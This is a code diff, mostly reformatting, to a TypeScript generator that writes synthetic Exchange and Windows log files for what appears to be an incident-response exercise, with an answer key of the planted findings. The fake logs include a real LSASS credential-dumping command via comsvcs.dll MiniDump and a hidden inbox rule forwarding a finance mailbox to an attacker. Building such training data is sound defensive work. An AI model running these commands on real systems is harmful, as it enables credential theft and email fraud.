@@ -33,26 +33,84 @@ const HOST = 'EX01.corp.local';
 
 function security(time: number, id: number, record: number, fields: Record<string, string | number>): string {
   const at = new Date(time).toISOString();
-  return JSON.stringify({ EventTime: at.replace('T', ' ').slice(0, 19), '@timestamp': at, Hostname: HOST, EventType: 'AUDIT_SUCCESS', EventID: id,
-    SourceName: 'Microsoft-Windows-Security-Auditing', Channel: 'Security', RecordNumber: record, ...fields });
+  return JSON.stringify({
+    EventTime: at.replace('T', ' ').slice(0, 19),
+    '@timestamp': at,
+    Hostname: HOST,
+    EventType: 'AUDIT_SUCCESS',
+    EventID: id,
+    SourceName: 'Microsoft-Windows-Security-Auditing',
+    Channel: 'Security',
+    RecordNumber: record,
+    ...fields,
+  });
 }
 
 function logon(time: number, record: number, user: string, type: number, ip: string): string {
-  return security(time, 4624, record, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'EX01$', SubjectDomainName: 'CORP', TargetUserName: user,
-    TargetDomainName: 'CORP', LogonType: type, LogonProcessName: type === 3 ? 'NtLmSsp' : 'Advapi', IpAddress: ip, WorkstationName: '-' });
+  return security(time, 4624, record, {
+    SubjectUserSid: 'S-1-5-18',
+    SubjectUserName: 'EX01$',
+    SubjectDomainName: 'CORP',
+    TargetUserName: user,
+    TargetDomainName: 'CORP',
+    LogonType: type,
+    LogonProcessName: type === 3 ? 'NtLmSsp' : 'Advapi',
+    IpAddress: ip,
+    WorkstationName: '-',
+  });
 }
 
-const MSGTRK_FIELDS = ['date-time', 'client-ip', 'client-hostname', 'server-ip', 'server-hostname', 'source-context', 'connector-id', 'source', 'event-id',
-  'internal-message-id', 'message-id', 'network-message-id', 'recipient-address', 'recipient-status', 'total-bytes', 'recipient-count',
-  'related-recipient-address', 'reference', 'message-subject', 'sender-address', 'return-path', 'message-info', 'directionality', 'tenant-id',
-  'original-client-ip', 'original-server-ip', 'custom-data', 'transport-traffic-type', 'log-id', 'schema-version'];
+const MSGTRK_FIELDS = [
+  'date-time',
+  'client-ip',
+  'client-hostname',
+  'server-ip',
+  'server-hostname',
+  'source-context',
+  'connector-id',
+  'source',
+  'event-id',
+  'internal-message-id',
+  'message-id',
+  'network-message-id',
+  'recipient-address',
+  'recipient-status',
+  'total-bytes',
+  'recipient-count',
+  'related-recipient-address',
+  'reference',
+  'message-subject',
+  'sender-address',
+  'return-path',
+  'message-info',
+  'directionality',
+  'tenant-id',
+  'original-client-ip',
+  'original-server-ip',
+  'custom-data',
+  'transport-traffic-type',
+  'log-id',
+  'schema-version',
+];
 
 function mailRow(time: number, n: number, source: string, sender: string, recipients: string[], subject: string, clientIp: string): string {
   const v: Record<string, string> = {
-    'date-time': isoMs(time), 'client-ip': clientIp, 'server-ip': '10.10.1.11', 'server-hostname': 'EX01', source, 'event-id': 'RECEIVE',
-    'internal-message-id': String(4100 + n), 'message-id': `<demo-${n}@${source === 'SMTP' ? 'mail' : 'EX01'}>`, 'recipient-address': recipients.join(';'),
-    'total-bytes': String(20_000 + n * 37), 'recipient-count': String(recipients.length), 'message-subject': subject, 'sender-address': sender,
-    'return-path': sender, directionality: source === 'SMTP' ? 'Incoming' : 'Originating', 'schema-version': '15.01.2176.002',
+    'date-time': isoMs(time),
+    'client-ip': clientIp,
+    'server-ip': '10.10.1.11',
+    'server-hostname': 'EX01',
+    source,
+    'event-id': 'RECEIVE',
+    'internal-message-id': String(4100 + n),
+    'message-id': `<demo-${n}@${source === 'SMTP' ? 'mail' : 'EX01'}>`,
+    'recipient-address': recipients.join(';'),
+    'total-bytes': String(20_000 + n * 37),
+    'recipient-count': String(recipients.length),
+    'message-subject': subject,
+    'sender-address': sender,
+    'return-path': sender,
+    directionality: source === 'SMTP' ? 'Incoming' : 'Originating',
+    'schema-version': '15.01.2176.002',
   };
   return MSGTRK_FIELDS.map((f) => {
     const value = v[f] ?? '';
@@ -79,23 +137,55 @@ export async function writeAftermath(outDir: string, world: World): Promise<{ fi
     logon(utc(3, 1, 6, 2, 11), 88_101, 'svc-mailarchive', 5, '-'),
     logon(utc(3, 4, 9, 15, 3), 88_412, admin.account, 10, admin.workstationIp),
     logon(utc(3, 5, 8, 40, 0), 88_530, finance.sam, 3, finance.workstationIp),
-    security(dump, 4688, 88_611, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'EX01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7',
-      NewProcessId: '0x1a2c', NewProcessName: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\root\\lsass.dmp full',
-      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', TargetUserName: '-', TargetDomainName: '-' }),
-    security(group, 4756, 88_640, { MemberName: 'CN=support01,CN=Users,DC=corp,DC=local', MemberSid: 'S-1-5-21-1844237615-456351123-2037193416-1990',
-      TargetUserName: 'Exchange Windows Permissions', TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-1844237615-456351123-2037193416-1119',
-      SubjectUserSid: 'S-1-5-18', SubjectUserName: 'EX01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', PrivilegeList: '-' }),
+    security(dump, 4688, 88_611, {
+      SubjectUserSid: 'S-1-5-18',
+      SubjectUserName: 'EX01$',
+      SubjectDomainName: 'CORP',
+      SubjectLogonId: '0x3e7',
+      NewProcessId: '0x1a2c',
+      NewProcessName: 'C:\\Windows\\System32\\rundll32.exe',
+      CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\root\\lsass.dmp full',
+      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
+      TargetUserName: '-',
+      TargetDomainName: '-',
+    }),
+    security(group, 4756, 88_640, {
+      MemberName: 'CN=support01,CN=Users,DC=corp,DC=local',
+      MemberSid: 'S-1-5-21-1844237615-456351123-2037193416-1990',
+      TargetUserName: 'Exchange Windows Permissions',
+      TargetDomainName: 'CORP',
+      TargetSid: 'S-1-5-21-1844237615-456351123-2037193416-1119',
+      SubjectUserSid: 'S-1-5-18',
+      SubjectUserName: 'EX01$',
+      SubjectDomainName: 'CORP',
+      SubjectLogonId: '0x3e7',
+      PrivilegeList: '-',
+    }),
   ];
   files.push({ path: 'EX01/Windows/EventLogs/Security.jsonl', text: `${events.join('\n')}\n` });
 
   // The inbox rule, run through the web shell's PowerShell as the admin account it had taken.
-  const ruleRow = renderRpsCmdlet(ex01, {
-    time: rule, durationMs: 412, requestId: 'a3f2c1d0-5b6e-4f70-8a91-0c2d3e4f5a6b', user: `CORP\\${admin.account}`, userSid: admin.sid, isAdmin: true,
-    clientApplication: 'EMS', cmdlet: 'New-InboxRule',
-    parameters: `-Mailbox "${finance.smtp}" -Name "." -ForwardTo "${FORWARD_TO}" -MarkAsRead "True"`, threadId: 61, outputCount: 1,
-  }, '7c0e4a2b-91d3-4e5f-a6b7-c8d9e0f1a2b3');
-  files.push({ path: `EX01/Exchange/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_${hourStamp(rule)}-2.LOG`,
-    text: exchangeHeader(versionLine(buildAt(ex01, rule)), 'Rps Cmdlet Logs', rule, RPS_CMDLET_FIELDS) + ruleRow });
+  const ruleRow = renderRpsCmdlet(
+    ex01,
+    {
+      time: rule,
+      durationMs: 412,
+      requestId: 'a3f2c1d0-5b6e-4f70-8a91-0c2d3e4f5a6b',
+      user: `CORP\\${admin.account}`,
+      userSid: admin.sid,
+      isAdmin: true,
+      clientApplication: 'EMS',
+      cmdlet: 'New-InboxRule',
+      parameters: `-Mailbox "${finance.smtp}" -Name "." -ForwardTo "${FORWARD_TO}" -MarkAsRead "True"`,
+      threadId: 61,
+      outputCount: 1,
+    },
+    '7c0e4a2b-91d3-4e5f-a6b7-c8d9e0f1a2b3',
+  );
+  files.push({
+    path: `EX01/Exchange/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_${hourStamp(rule)}-2.LOG`,
+    text: exchangeHeader(versionLine(buildAt(ex01, rule)), 'Rps Cmdlet Logs', rule, RPS_CMDLET_FIELDS) + ruleRow,
+  });
 
   // Message tracking: a thread with a client before the attack, the rule's forwarded copies after it,
   // the client's own reply (a normal reply), and the attacker's reply into the thread from the lookalike.
@@ -111,8 +201,12 @@ export async function writeAftermath(outDir: string, world: World): Promise<{ fi
     mailRow(utc(3, 9, 8, 47, 0), 5, 'SMTP', lookalike, [colleague.smtp], `RE: ${subject}`, '203.0.113.77'),
     mailRow(utc(3, 9, 9, 30, 0), 6, 'SMTP', clientAddress, [finance.smtp], 'Your new bank details', '192.0.2.25'),
   ];
-  files.push({ path: 'EX01/Exchange/TransportRoles/Logs/MessageTracking/MSGTRK20210226-1.LOG',
-    text: exchangeHeader(versionLine(buildAt(ex01, utc(2, 26, 10, 5, 0))), 'Message Tracking Log', utc(2, 26, 10, 5, 0), MSGTRK_FIELDS) + `${rows.join('\r\n')}\r\n` });
+  files.push({
+    path: 'EX01/Exchange/TransportRoles/Logs/MessageTracking/MSGTRK20210226-1.LOG',
+    text:
+      exchangeHeader(versionLine(buildAt(ex01, utc(2, 26, 10, 5, 0))), 'Message Tracking Log', utc(2, 26, 10, 5, 0), MSGTRK_FIELDS) +
+      `${rows.join('\r\n')}\r\n`,
+  });
 
   let bytes = 0;
   for (const f of files) {
@@ -121,11 +215,17 @@ export async function writeAftermath(outDir: string, world: World): Promise<{ fi
     bytes += Buffer.byteLength(f.text);
   }
   return {
-    files: files.map((f) => f.path), bytes,
+    files: files.map((f) => f.path),
+    bytes,
     truth: {
-      lsassDumpTime: new Date(dump).toISOString(), dumpedAccounts: ['CORP\\svc-mailarchive', `CORP\\${admin.account}`],
-      networkLogonAccount: `CORP\\${finance.sam}`, groupChangeTime: new Date(group).toISOString(),
-      forwardedMailbox: finance.smtp, forwardTo: FORWARD_TO, lookalikeDomain: LOOKALIKE_DOMAIN, hijackSubject: `RE: ${subject}`,
+      lsassDumpTime: new Date(dump).toISOString(),
+      dumpedAccounts: ['CORP\\svc-mailarchive', `CORP\\${admin.account}`],
+      networkLogonAccount: `CORP\\${finance.sam}`,
+      groupChangeTime: new Date(group).toISOString(),
+      forwardedMailbox: finance.smtp,
+      forwardTo: FORWARD_TO,
+      lookalikeDomain: LOOKALIKE_DOMAIN,
+      hijackSubject: `RE: ${subject}`,
     },
   };
 }
